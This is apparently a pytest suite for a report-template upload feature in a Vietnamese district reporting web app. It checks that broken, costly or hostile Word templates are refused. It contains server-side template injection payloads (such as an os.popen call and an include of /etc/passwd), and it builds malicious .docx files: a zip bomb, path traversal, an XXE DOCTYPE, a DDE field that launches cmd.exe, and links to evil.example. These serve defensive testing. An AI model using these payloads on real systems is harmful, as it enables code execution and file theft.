"""The district's own template: looked into, tried, and never able to reach Python or to stop a report."""

import io
import re
import zipfile

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from incoming import apart
from incoming.uploads import LOCK
from reports import actions, document
from reports.document import check
from reports.document.check import TOO_MUCH, check_template
from reports.document.sample import STAMP, full_day, template_names
from reports.models import DocumentTemplate
from tests.factories import at, day_of, word_file

from .pages import BOARD, elements, errors, texts
from .word import opened, paragraphs, printed, saved, template_of

PAGE = "/tong-hop/mau-bao-cao/"
RESTORE = PAGE + "dung-mau-goc/"
EDITION, SECOND = BOARD + "lan-chot/1/", BOARD + "lan-chot/2/"
OWN = template_of("Mẫu riêng của {{ huyen }}, ngày {{ ngay }}")
#: It could be filled in when it was uploaded; a later version of the program took the name away.
OUTDATED = template_of("{{ ten_cu }}")

TITLE = "Báo cáo kết quả triển khai cài đặt ứng dụng Bluezone trên địa bàn huyện ngày 14/8/2020"


def close(campaign, office):
    return actions.close_day(day=day_of(campaign), by=office, at=at(14, 30), number=1)


@pytest.fixture
def edition(clock, campaign, agency, office):
    return close(campaign, office)


def upload(client, content):
    return client.post(PAGE, {"files": word_file(content)}, follow=True)


def text_of_report(client, address=EDITION + "bao-cao.docx"):
    return paragraphs(opened(client.get(address).content))


def close_under(content, campaign, office):
    """Make the edition while that template is in force, tried or not."""
    DocumentTemplate.objects.create(district=office.district, content=content, uploaded_by=office, uploaded_at=at(9))
    close(campaign, office)


# Replacing it


def test_shipped_template_is_in_force_until_another_is(edition, office_client):
    assert texts(office_client.get(PAGE), "p", class_="lead") == ["Đang dùng mẫu gốc của hệ thống."]
    assert office_client.get(PAGE + "dang-dung.docx").content == document.SHIPPED.read_bytes()
    assert office_client.get(PAGE + "mau-goc.docx").content == document.SHIPPED.read_bytes()
    assert "BÁO CÁO" in text_of_report(office_client)


def close_second(campaign, office, moment):
    actions.close_day(day=day_of(campaign), by=office, at=moment, number=2, reason="theo mẫu mới")


def test_uploaded_template_prints_the_editions_from_then_on(edition, campaign, clock, office_client, office):
    clock.move_to(at(14, 40))
    page = upload(office_client, OWN)
    assert page.redirect_chain == [(PAGE, 302)]
    assert texts(page, "p", class_="lead") == [
        "Đang dùng mẫu của huyện Lộc Ninh, vhtt tải lên lúc 14 giờ 40 phút ngày 14/8/2020."
    ]
    close_second(campaign, office, at(14, 40))
    assert text_of_report(office_client, SECOND + "bao-cao.docx") == ["Mẫu riêng của huyện Lộc Ninh, ngày 14/8/2020"]
    assert office_client.get(PAGE + "dang-dung.docx").content == OWN
    assert office_client.get(PAGE + "mau-goc.docx").content == document.SHIPPED.read_bytes()


def test_report_of_an_edition_never_changes_with_the_template(edition, campaign, clock, office_client, office):
    first = office_client.get(EDITION + "bao-cao.docx").content
    clock.move_to(at(14, 31))
    upload(office_client, OWN)
    close_second(campaign, office, at(14, 32))
    own = office_client.get(SECOND + "bao-cao.docx").content
    clock.move_to(at(14, 33))
    office_client.post(RESTORE)
    assert office_client.get(EDITION + "bao-cao.docx").content == first
    assert office_client.get(SECOND + "bao-cao.docx").content == own != first


def test_template_of_an_hour_that_comes_twice_changes_no_report_of_the_first(edition, clock, office, sign_in):
    client = sign_in(office)
    first = client.get(EDITION + "bao-cao.docx").content
    clock.move_to(at(13, 45))
    upload(client, OWN)
    assert client.get(EDITION + "bao-cao.docx").content == first
    assert client.get(PAGE + "dang-dung.docx").content == OWN


def test_shipped_template_itself_can_be_uploaded(office_client):
    assert upload(office_client, document.SHIPPED.read_bytes()).redirect_chain == [(PAGE, 302)]


def test_shipped_template_is_put_in_force_again(edition, office_client, office):
    upload(office_client, OWN)
    page = office_client.post(RESTORE, follow=True)
    assert texts(page, "p", class_="lead") == [
        "Đang dùng mẫu gốc của hệ thống, vhtt chọn lại lúc 14 giờ 30 phút ngày 14/8/2020."
    ]
    assert "BÁO CÁO" in text_of_report(office_client)
    assert [bytes(row.content) for row in DocumentTemplate.objects.all()] == [b"", OWN]


def test_restoring_what_is_in_force_writes_nothing(office_client):
    assert office_client.post(RESTORE).status_code == 302
    assert not DocumentTemplate.objects.exists()


def test_another_districts_template_is_not_ours(edition, foreign_office, office_client, sign_in):
    upload(sign_in(foreign_office), OWN)
    assert "BÁO CÁO" in text_of_report(office_client)
    assert office_client.get(PAGE + "dang-dung.docx").content == document.SHIPPED.read_bytes()


def test_page_lists_the_names_that_can_be_used(office_client):
    listed = texts(office_client.get(PAGE), "strong", class_="sum")
    assert listed == [name.path for name in template_names()]
    assert {"van_ban_day_du", "chi_dao", "bieu_a.tong", "bieu_b.dong", "tinh_hinh.nhom"} < set(listed)


def test_every_listed_name_can_be_used():
    names = template_names()
    lists = [f"{{% for d in {name.path} %}}{asked('d', name.parts)}{{% endfor %}}" for name in names if name.is_list]
    check_template(template_of(*[asked(name.path, name.parts) for name in names if not name.is_list], *lists))


def asked(path, parts):
    """A template's text that asks for the name, or for each name behind its dot."""
    return "".join(f"{{% if {name} %}}{{% endif %}}" for name in ([f"{path}.{part}" for part in parts] or [path]))


# A template that cannot be filled in


BROKEN = {
    "{{ ten_la }}": "Mẫu dùng tên “ten_la” mà hệ thống không có.",
    "{{ bieu_a.ten_la }}": "Mẫu dùng tên “ten_la” mà hệ thống không có.",
    "{% for x in ten_la %}{% endfor %}": "Mẫu dùng tên “ten_la” mà hệ thống không có.",
    "{% if ten_la %}{% endif %}": "Mẫu dùng tên “ten_la” mà hệ thống không có.",
    "{{ huyen|loc_la }}": "Mẫu dùng tên lọc “loc_la” mà hệ thống không có.",
    "{{ huyen is so_le }}": "Mẫu dùng tên lọc “so_le” mà hệ thống không có.",
    "{% for x in chi_dao %}": "Mẫu thiếu thẻ đóng “endfor” của thẻ “for”.",
    "{% if huyen %}{% endfor %}": "Mẫu có thẻ “endfor” đặt sai chỗ: thẻ “if” chưa đóng.",
    "{% lap %}": "Mẫu có thẻ “lap” không có trong hệ thống hoặc đặt sai chỗ.",
    "Ngày {{ ngay": "Mẫu có thẻ viết sai gần chỗ “Ngày {{ ngay”; đề nghị kiểm tra các dấu {{ }} và {% %}.",
    "{{ huyen tinh }}": "Mẫu có thẻ viết sai gần chỗ “{{ huyen tinh }}”; đề nghị kiểm tra các dấu {{ }} và {% %}.",
    "{{ bieu_a }}": "Mẫu in thẳng một danh sách; đề nghị dùng {%p for … %} hoặc ghi tên của một mục trong đó.",
    "{{ bieu_a.co_so_lieu }}": (
        "Mẫu in thẳng một dấu hiệu có/không hoặc một thứ không phải văn bản; đề nghị dùng {% if … %}."
    ),
    "Có {%p if huyen %}": (
        "Thẻ “{%p if huyen %}” phải đứng riêng một đoạn ({%p}), một dòng ({%tr}) hoặc một ô ({%tc})."
    ),
    "{{r huyen }}": (
        "Mẫu cho ra văn bản hỏng; đề nghị kiểm tra các thẻ {%p …%} và {%tr …%} có đứng riêng một đoạn, một dòng không."
    ),
    "{% for x in bieu_a.co_so_lieu %}{% endfor %}": "Mẫu có thẻ không dùng được; đề nghị so với mẫu gốc.",
    "{{ bieu_a.dong|join(', ') }}": (
        "Mẫu ghép một danh sách không phải của văn bản; đề nghị ghi tên của một mục: join('; ', attribute='ten')."
    ),
    "{{ chi_dao[5] }}": "Mẫu dùng mục số 5 của một danh sách; danh sách có thể không có mục đó.",
}


@pytest.mark.parametrize("text", BROKEN)
def test_broken_template_is_told_what_to_mend_and_not_kept(office_client, text):
    page = upload(office_client, template_of(text))
    assert (page.status_code, errors(page)) == (422, {"files": BROKEN[text]})
    assert not DocumentTemplate.objects.exists()


@pytest.mark.parametrize("torn", ["Ngày {{ ngay", "Ngày { ngay }}", "Ngày {{ ngay }", "{ ngay }", "{% if huyen }}"])
def test_half_a_tag_is_refused_before_it_takes_the_paragraphs_below_with_it(torn):
    text_near_it = re.escape(f"Mẫu có thẻ viết sai gần chỗ “{torn}”")
    with pytest.raises(document.BrokenTemplate, match=text_near_it):
        check_template(
            template_of("Kính gửi: UBND tỉnh.", torn, "{%p for doan in chi_dao %}", "{{ doan }}", "{%p endfor %}")
        )


@pytest.mark.parametrize(
    "wrong", ["{{ huyen tinh }}", "{% if huyen = tinh %}{% endif %}", "{{ huyen + tinh }}", "A & B {{ huyen tinh }}"]
)
def test_wrong_tag_is_told_by_its_own_paragraph(wrong):
    with pytest.raises(document.BrokenTemplate, match=re.escape(f"“{wrong}”")):
        check_template(template_of("Kính gửi: UBND tỉnh {{ tinh }}.", wrong, "{{ ngay }}"))


def test_template_that_fails_on_an_empty_day_is_refused(office_client):
    """Nobody reports on such a day, and the report is due all the same."""
    page = upload(office_client, template_of("{{ bieu_a.dong[0].don_vi }}"))
    assert page.status_code == 422


def test_template_whose_tags_tear_a_table_apart_is_refused():
    template = opened(template_of("{% if lui_han %}một"))
    template.add_table(1, 1).rows[0].cells[0].text = "hai{% endif %}"
    with pytest.raises(document.BrokenTemplate, match="Mẫu cho ra văn bản hỏng"):
        check_template(saved(template))


REACHING = [
    "{{ ''.__class__ }}",
    "{{ ''['__class__'] }}",
    "{{ bieu_a.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ self }}",
    "{{ huyen.format }}",
    "{{ bieu_a.items }}",
    "{{ huyen.format_map({}) }}",
    "{{ range(10) }}",
    "{{ namespace() }}",
    "{% set x = huyen %}",
    "{% macro m() %}{% endmacro %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{{ 7*7 }}",
    "{{ 'a' ~ 'b' }}",
    "{{ 'a'|center(999999999) }}",
    "{{ chi_dao|map(attribute='__class__')|first }}",
    "{{ chi_dao|attr('__class__') }}",
    "{% for a in chi_dao %}{% for b in chi_dao %}{% for c in chi_dao %}{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in chi_dao %}{% endfor %}" * 61,
    "{% for a in chi_dao recursive %}{{ loop(chi_dao) }}{% endfor %}",
]


@pytest.mark.parametrize("text", REACHING)
@pytest.mark.parametrize("place", ["body", "header", "property"])
def test_template_cannot_reach_beyond_its_names(text, place):
    template = Document()
    if place == "body":
        template.add_paragraph(text)
    elif place == "header":
        template.sections[0].header.paragraphs[0].text = text
    else:
        template.core_properties.title = text[:255]
        check_template(saved(template))
        assert printed(full_day(), saved(template)).core_properties.title == TITLE
        return
    with pytest.raises(document.BrokenTemplate, match=r"^Mẫu "):
        check_template(saved(template))


def test_template_that_prints_without_end_is_stopped():
    text = "{% for a in tinh_hinh.dong %}{% for b in tinh_hinh.dong %}" + "x" * 100_000 + "{% endfor %}{% endfor %}"
    with pytest.raises(document.BrokenTemplate, match="quá dài"):
        check_template(template_of(text))


def test_template_that_joins_a_text_to_itself_over_and_over_is_refused():
    text = "{{ huyen|join(huyen|join(huyen|join(huyen))) }}"
    with pytest.raises(document.BrokenTemplate, match="chỉ nhận một văn bản ghi sẵn"):
        check_template(template_of(text))


def test_template_that_joins_a_text_letter_by_letter_over_and_over_is_refused():
    text = "{{ huyen" + "|join('0123456789')" * 4 + " }}"
    with pytest.raises(document.BrokenTemplate, match="không ghép một văn bản"):
        check_template(template_of(text))


def test_template_joins_the_names_of_a_list():
    template = template_of(
        "{{ tinh_hinh.nhom[2].danh_sach|join('; ', attribute='ten') }}", "{{ chi_dao|join(' ')|default(ngay) }}"
    )
    check_template(template)
    named = "Phòng Mẫu 3; Ủy ban nhân dân xã Mẫu 4; Phòng Mẫu 9; Ủy ban nhân dân xã Mẫu 10"
    assert paragraphs(printed(full_day(), template)) == [named, "Đã ban hành văn bản chỉ đạo. Đã phát thanh."]


def test_template_of_millions_of_letters_is_refused():
    with pytest.raises(document.BrokenTemplate, match="Mẫu quá dài"):
        check_template(template_of("x" * 2_100_000))


# A file that costs more than it may


def with_bookmarks(name, number):
    template = opened(OWN)
    for _ in range(number):
        mark = OxmlElement("w:bookmarkStart")
        mark.set(qn("w:name"), name)
        template.paragraphs[0]._p.append(mark)
    return saved(template)


COSTLY = {
    "braces without end": (template_of("{{" * 60_000), f"Mẫu có thẻ viết sai gần chỗ “{'{{' * 40}”; đề nghị kiểm tra"),
    "a tag in the names of bookmarks": (with_bookmarks("-%}" * 20, 6000), "Mẫu có dấu của thẻ ({{ }} hoặc {% %}) nằm"),
    "thousands of tags": (template_of("{%- if ngay -%}a{%- endif -%}" * 20_000), "Mẫu quá nặng, lập một báo cáo mất"),
}


@pytest.mark.parametrize("name", COSTLY)
def test_template_that_would_take_ever_longer_is_refused_by_what_is_in_it(office_client, name):
    content, sentence = COSTLY[name]
    page = upload(office_client, content)
    assert (page.status_code, errors(page)["files"][: len(sentence)]) == (422, sentence)
    assert not DocumentTemplate.objects.exists()


def test_template_is_tried_where_it_can_stop_nobody_else(office_client, monkeypatch):
    monkeypatch.setattr(apart, "MOST_SECONDS", 0.01)
    page = upload(office_client, OWN)
    assert (page.status_code, errors(page)) == (422, {"files": TOO_MUCH})
    assert not DocumentTemplate.objects.exists()


def test_template_whose_report_costs_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(check, "MOST_SECONDS", 0)
    with pytest.raises(document.BrokenTemplate, match="Mẫu quá nặng"):
        check_template(OWN)


CORE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"


def test_report_from_a_template_saved_by_libreoffice_has_each_part_once(office_client):
    """As "Office Open XML Text" it gives the properties a relation of another name."""
    with zipfile.ZipFile(io.BytesIO(OWN)) as archive:
        relations = archive.read("_rels/.rels").decode()
    assert CORE in relations
    other = CORE.replace("package", "officedocument")
    template = with_parts(("_rels/.rels", relations.replace(CORE, other)))
    assert upload(office_client, template).redirect_chain == [(PAGE, 302)]
    with zipfile.ZipFile(io.BytesIO(document.build(full_day(), STAMP, template))) as report:
        assert report.namelist().count("docProps/core.xml") == 1
    assert printed(full_day(), template).core_properties.title == TITLE


def test_template_whose_report_would_hold_a_part_twice_is_refused(monkeypatch):
    def with_a_part_twice(*args):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as report, pytest.warns(UserWarning, match="Duplicate"):
            report.writestr("docProps/core.xml", "")
            report.writestr("docProps/core.xml", "")
        return out.getvalue()

    monkeypatch.setattr(check, "build", with_a_part_twice)
    with pytest.raises(document.BrokenTemplate, match="Không đọc được tệp Word"):
        check_template(OWN)


# A file that is none


def with_parts(*parts):
    """A valid template with further or replaced parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(OWN)) as good, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
        for name in good.namelist():
            if name not in dict(parts):
                bad.writestr(name, good.read(name))
        for name, content in parts:
            bad.writestr(name, content)
    return out.getvalue()


def with_relation(kind, target):
    template = opened(OWN)
    template.part.relate_to(target, kind, is_external=True)
    return saved(template)


def with_field(*pieces):
    """A template with one field, its instruction cut as Word cuts them."""
    template = opened(OWN)
    for piece in pieces:
        instruction = OxmlElement("w:instrText")
        instruction.text = piece
        template.add_paragraph().add_run()._r.append(instruction)
    return saved(template)


def with_simple_field(instruction):
    template = opened(OWN)
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), instruction)
    template.add_paragraph()._p.append(field)
    return saved(template)


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
NO_WORD = "Tệp không phải là văn bản Word .docx (hoặc có đặt mật khẩu); đề nghị lưu lại dạng .docx không mật khẩu."
UNREADABLE = "Không đọc được tệp Word; đề nghị mở bằng Word và lưu lại dạng .docx."
UNSAFE = "Tệp Word có cấu trúc không an toàn; đề nghị chép nội dung sang một tệp .docx mới."
TOO_LARGE = "Tệp Word quá lớn khi giải nén; đề nghị bỏ bớt hoặc thu nhỏ hình trong tệp."
MACRO = "Tệp Word có macro; đề nghị lưu lại dạng “Word Document (.docx)” không có macro."
LINKED = "Tệp Word có liên kết đến tệp khác (ảnh liên kết, mẫu .dotx…); đề nghị chèn hẳn vào tệp hoặc bỏ liên kết."
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>'

HOSTILE = {
    "text": (b"Xin ch\xc3\xa0o", NO_WORD),
    "an old .doc or a password": (b"\xd0\xcf\x11\xe0" + bytes(600), NO_WORD),
    "an old .doc": (
        b"\xd0\xcf\x11\xe0" + bytes(600) + "WordDocument".encode("utf-16-le"),
        "Tệp Word dạng cũ (.doc); đề nghị mở bằng Word, lưu lại dạng “Word Document (.docx)”.",
    ),
    "a password": (
        b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "Tệp có đặt mật khẩu nên không đọc được; đề nghị mở tệp, bỏ mật khẩu rồi lưu lại.",
    ),
    "a workbook": (with_parts(("x", "")).replace(b"word/document.xml", b"word/dokument.xml"), NO_WORD),
    "a broken zip": (b"PK\x03\x04" + bytes(600), UNREADABLE),
    "more than 2 MB": (
        b"PK\x03\x04" + bytes(2 * 1024 * 1024),
        "Tệp lớn hơn 2 MB; đề nghị bỏ bớt hoặc thu nhỏ hình trong tệp.",
    ),
    "a bomb": (with_parts(("word/media/a.png", b"0" * (11 * 1024 * 1024))), TOO_LARGE),
    "many parts": (with_parts(*((f"word/media/{n}.png", b"") for n in range(100))), TOO_LARGE),
    "a way out of the folder": (with_parts(("../evil.xml", "")), UNSAFE),
    "a DOCTYPE": (with_parts(("word/document.xml", DOCTYPE)), UNSAFE),
    "a DOCTYPE in UTF-16": (with_parts(("word/styles.xml", DOCTYPE.encode("utf-16"))), UNSAFE),
    "a macro": (with_parts(("word/vbaProject.bin", "x")), MACRO),
    "an embedded object": (
        with_parts(("word/embeddings/oleObject1.bin", "x")),
        "Tệp Word có đối tượng nhúng; đề nghị xóa đối tượng nhúng rồi lưu lại.",
    ),
    "XML that is none": (with_parts(("word/document.xml", "<w:document>")), UNREADABLE),
    "no content types": (with_parts(("[Content_Types].xml", "<x/>")), UNREADABLE),
    "a template elsewhere": (with_relation(ATTACHED_TEMPLATE, "http://evil.example/a.dotm"), LINKED),
    "a linked picture": (with_relation(RELATIONSHIP_TYPE.IMAGE, "http://evil.example/a.png"), LINKED),
    "a field that runs something": (with_field(" DDE", 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"'), LINKED),
    "a field that fetches something": (with_simple_field('INCLUDEPICTURE "http://evil.example/a.png"'), LINKED),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_with_a_sentence_and_not_kept(office_client, name):
    content, sentence = HOSTILE[name]
    page = upload(office_client, content)
    assert (page.status_code, errors(page)) == (422, {"files": sentence})
    assert not DocumentTemplate.objects.exists()


def test_lock_file_of_word_is_named_for_what_it_is(office_client):
    file = word_file(bytes(162))
    file.name = "~$mau.docx"
    assert errors(office_client.post(PAGE, {"files": file})) == {"files": LOCK}


def test_address_to_click_on_is_no_link_to_a_file():
    check_template(with_relation(RELATIONSHIP_TYPE.HYPERLINK, "https://bluezone.gov.vn/"))


@pytest.mark.parametrize(
    ("form", "sentence"),
    [
        ({}, "Chưa chọn tệp nào."),
        ({"files": "khong phai tep"}, "Chưa chọn tệp nào."),
        ({"files": word_file(b"")}, "Tệp không có nội dung."),
    ],
)
def test_upload_without_a_file_says_so(office_client, form, sentence):
    page = office_client.post(PAGE, form)
    assert (page.status_code, errors(page)) == (422, {"files": sentence})


# A template that fails nevertheless


@pytest.mark.parametrize("file", ["bao-cao.docx", "ho-so.zip"])
def test_template_that_fails_later_leaves_a_way_to_the_report(campaign, agency, office, office_client, file):
    close_under(OUTDATED, campaign, office)
    page = office_client.get(EDITION + file)
    assert (page.status_code, texts(page, "h1")) == (422, ["Chưa tạo được báo cáo Word"])
    assert texts(page, "div", role="alert") == ["Mẫu dùng tên “ten_cu” mà hệ thống không có."]
    addresses = [dict(link.attributes)["href"] for link in elements(page, "a", class_="button")]
    assert addresses == [f"{EDITION}{file}?mau=goc", PAGE]
    assert office_client.get(addresses[0]).status_code == 200


def test_stored_file_that_is_no_longer_one_is_told_as_such(campaign, agency, office, office_client):
    close_under(b"PK\x03\x04", campaign, office)
    page = office_client.get(EDITION + "bao-cao.docx")
    assert (page.status_code, texts(page, "div", role="alert")) == (422, [UNREADABLE])


def test_leader_gets_the_report_but_no_way_to_the_template(clock, campaign, agency, office, leader, sign_in):
    close_under(OUTDATED, campaign, office)
    page = sign_in(leader).get(EDITION + "bao-cao.docx")
    assert texts(page, "a", class_="button") == ["Tạo theo mẫu gốc"]
    assert "BÁO CÁO" in text_of_report(sign_in(leader), EDITION + "bao-cao.docx?mau=goc")
